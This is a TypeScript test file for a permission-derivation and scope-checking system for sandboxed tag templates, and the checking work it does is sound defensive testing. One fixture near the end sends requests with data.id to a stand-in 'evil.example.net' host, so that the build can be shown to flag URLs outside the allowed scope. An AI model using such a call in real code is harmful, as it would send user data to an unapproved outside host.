import type { ApiUses } from '../../permissions/api-uses';
import { findApiUses } from '../../permissions/api-uses';
import { checkApiUses, checkScope, permissionsFor } from '../../permissions/derive';
import { grantsFromPermissions, grantsFromScope } from '../../permissions/grants';
import type { PermissionScope } from '../../permissions/scope';
import { plainValue } from '../../permissions/typed-values';
import { parseScript } from '../../sandbox/ast';

const uses = (...apis: string[]): ApiUses => ({
  apis: new Map(apis.map((api, i) => [api, i * 10])),
  calls: [],
});

const headerMap = (name: string) => ({
  type: 3,
  mapKey: [{ type: 1, string: 'headerName' }],
  mapValue: [{ type: 1, string: name }],
});

describe('permissionsFor', () => {
  test('read_request carries only the settings the used APIs need', () => {
    const scope: PermissionScope = {
      requestHeaders: ['Referer', 'user-agent'],
      queryParameters: ['gclid'],
      requestPath: true,
      requestBody: true,
      remoteAddress: true,
    };
    const used = uses('getRequestHeader', 'getRequestQueryParameter', 'getRequestPath');
    expect(checkApiUses(used, grantsFromScope(scope), 'build')).toEqual([]);
    expect(permissionsFor(used, scope)).toEqual([
      {
        instance: {
          key: { publicId: 'read_request', versionId: '1' },
          param: [
            {
              key: 'headerWhitelist',
              value: { type: 2, listItem: [headerMap('referer'), headerMap('user-agent')] },
            },
            { key: 'headersAllowed', value: { type: 8, boolean: true } },
            {
              key: 'queryParameterWhitelist',
              value: {
                type: 2,
                listItem: [
                  {
                    type: 3,
                    mapKey: [{ type: 1, string: 'queryParameter' }],
                    mapValue: [{ type: 1, string: 'gclid' }],
                  },
                ],
              },
            },
            { key: 'queryParametersAllowed', value: { type: 8, boolean: true } },
            { key: 'pathAllowed', value: { type: 8, boolean: true } },
            { key: 'requestAccess', value: { type: 1, string: 'specific' } },
            { key: 'headerAccess', value: { type: 1, string: 'specific' } },
            { key: 'queryParameterAccess', value: { type: 1, string: 'specific' } },
          ],
        },
        clientAnnotations: { isEditedByUser: true },
        isRequired: true,
      },
    ]);
    expect(checkScope(used, scope).map((p) => p.message)).toEqual([
      'scope.requestBody is declared but the code never uses an API that needs it; remove it so the template asks for no more than it uses',
      'scope.remoteAddress is declared but the code never uses an API that needs it; remove it so the template asks for no more than it uses',
    ]);
  });

  test('specific event keys, logging, template storage and container data, sorted by publicId', () => {
    const scope: PermissionScope = { eventData: ['event_name', 'user_data.*'], logging: 'all' };
    const used = uses('templateDataStorage', 'getEventData', 'logToConsole', 'getContainerVersion');
    expect(permissionsFor(used, scope)).toEqual([
      {
        instance: { key: { publicId: 'access_template_storage', versionId: '1' }, param: [] },
        isRequired: true,
      },
      {
        instance: {
          key: { publicId: 'logging', versionId: '1' },
          param: [{ key: 'environments', value: { type: 1, string: 'all' } }],
        },
        clientAnnotations: { isEditedByUser: true },
        isRequired: true,
      },
      {
        instance: { key: { publicId: 'read_container_data', versionId: '1' }, param: [] },
        isRequired: true,
      },
      {
        instance: {
          key: { publicId: 'read_event_data', versionId: '1' },
          param: [
            { key: 'eventDataAccess', value: { type: 1, string: 'specific' } },
            {
              key: 'keyPatterns',
              value: {
                type: 2,
                listItem: [
                  { type: 1, string: 'event_name' },
                  { type: 1, string: 'user_data.*' },
                ],
              },
            },
          ],
        },
        clientAnnotations: { isEditedByUser: true },
        isRequired: true,
      },
    ]);
  });

  test('what it derives, read back as grants, covers the same uses', () => {
    const scope: PermissionScope = {
      sendHttp: { urls: ['https://api.example.com/'] },
      readCookies: ['_vid'],
      setCookies: [{ name: '_vid' }],
      requestHeaders: ['referer'],
      eventData: 'any',
      logging: 'debug',
    };
    const program = parseScript(
      [
        "const sendHttpRequest = require('sendHttpRequest');",
        "const getCookieValues = require('getCookieValues');",
        "const setCookie = require('setCookie');",
        "const header = require('getRequestHeader');",
        "const getAllEventData = require('getAllEventData');",
        "const log = require('logToConsole');",
        "log(getAllEventData(), getCookieValues('_vid'), header('referer'));",
        "setCookie('_vid', 'v', {});",
        "sendHttpRequest('https://api.example.com/v1', () => {});",
      ].join('\n'),
    );
    const found = findApiUses(program);
    expect(checkApiUses(found, grantsFromScope(scope), 'build')).toEqual([]);
    const grants = grantsFromPermissions(permissionsFor(found, scope));
    expect(checkApiUses(found, grants, 'check')).toEqual([]);
  });
});

describe('scope errors', () => {
  test('an API without its scope entry names the API and the scope key to add', () => {
    expect(
      checkApiUses(
        uses('getCookieValues', 'getAllEventData'),
        grantsFromScope({ eventData: ['a'] }),
        'build',
      ),
    ).toEqual([
      {
        offset: 0,
        severity: 'error',
        message:
          "getCookieValues needs the get_cookies permission, but the definition's scope has no readCookies; add it to scope, e.g. readCookies: ['cookie_name']",
      },
      {
        offset: 10,
        severity: 'error',
        message:
          "getAllEventData needs the read_event_data permission, but the definition's scope has no suitable eventData; add it to scope, e.g. eventData: 'any'",
      },
    ]);
  });

  test('every API with a permission can be configured from scope', () => {
    expect(checkApiUses(uses('Firestore'), grantsFromScope({}), 'build')).toEqual([
      {
        offset: 0,
        severity: 'error',
        message:
          "Firestore needs the access_firestore permission, but the definition's scope has no firestore; add it to scope, e.g. firestore: [{ projectId: 'p', path: 'users/*', operation: 'read' }]",
      },
    ]);
    const scope: PermissionScope = {
      firestore: [{ projectId: 'p', path: 'users/*', operation: 'read' }],
      sendPixel: { urls: ['https://px.example.com/'] },
      privateKeys: ['signing'],
      response: { status: true, headers: ['Content-Type'], body: true },
      messages: [{ type: 'done', action: 'send' }],
    };
    const apis = [
      'Firestore',
      'sendPixelFromBrowser',
      'hmacSha256',
      'setResponseStatus',
      'setResponseHeader',
      'setResponseBody',
      'sendMessage',
      'addEventCallback',
    ];
    expect(checkApiUses(uses(...apis), grantsFromScope(scope), 'build')).toEqual([]);
    const written = permissionsFor(uses(...apis), scope).map((p) => [
      p.instance.key.publicId,
      Object.fromEntries(p.instance.param.map((q) => [q.key, plainValue(q.value)])),
    ]);
    expect(written).toEqual([
      [
        'access_firestore',
        {
          allowedOptions: [
            { projectId: 'p', path: 'users/*', operation: 'read', databaseId: '(default)' },
          ],
        },
      ],
      [
        'access_response',
        {
          writeResponseAccess: 'specific',
          writeHeaderAccess: 'specific',
          writeStatusAllowed: true,
          writeHeadersAllowed: true,
          writeHeaderWhitelist: [{ headerName: 'content-type' }],
          writeBodyAllowed: true,
        },
      ],
      ['read_event_metadata', {}],
      ['send_pixel_from_browser', { allowedUrls: 'specific', urls: ['https://px.example.com/*'] }],
      ['use_custom_private_keys', { keyIds: ['signing'] }],
      [
        'use_message',
        { allowedActions: 'specific', messageTypes: [{ type: 'done', action: 'send' }] },
      ],
    ]);
  });

  test('sendHttpGet gets send_http from scope.sendHttp, like sendHttpRequest', () => {
    const code =
      "const sendHttpGet = require('sendHttpGet');\nsendHttpGet('https://api.example.com/x');";
    const used = findApiUses(parseScript(code));
    const scope: PermissionScope = { sendHttp: { urls: ['https://api.example.com/'] } };
    expect(checkScope(used, scope)).toEqual([]);
    expect(checkApiUses(used, grantsFromScope(scope), 'build')).toEqual([]);
    expect(permissionsFor(used, scope).map((p) => p.instance.key.publicId)).toEqual(['send_http']);
  });

  test('send_http URL prefixes must end with / or *', () => {
    expect(
      checkScope(uses('sendHttpRequest'), {
        sendHttp: { urls: ['https://a.example.com/v1', 'https://b.example.com/'] },
      }),
    ).toEqual([
      {
        scopeKey: 'sendHttp',
        severity: 'error',
        message:
          "scope.sendHttp.urls entry 'https://a.example.com/v1' must be an http(s) URL prefix ending with '/' or '*' (e.g. 'https://api.example.com/')",
      },
    ]);
  });
});

describe('URLs through consts and +', () => {
  const code = [
    "const sendHttpRequest = require('sendHttpRequest');",
    "const BASE = 'https://evil.example.net/';",
    'sendHttpRequest(BASE + data.id);',
    'sendHttpRequest(data.url);',
  ].join('\n');
  const scope = { sendHttp: { urls: ['https://api.example.com/'] } };

  test('the build reports a constant prefix outside scope.sendHttp, and nothing it cannot prove', () => {
    const found = checkApiUses(findApiUses(parseScript(code)), grantsFromScope(scope), 'build');
    expect(found.map((p) => `${p.severity}: ${p.message}`)).toEqual([
      "error: sendHttpRequest('https://evil.example.net/' + ...) calls a URL that send_http does not allow; add a prefix of it to scope.sendHttp.urls (e.g. 'https://evil.example.net/')",
    ]);
  });
});
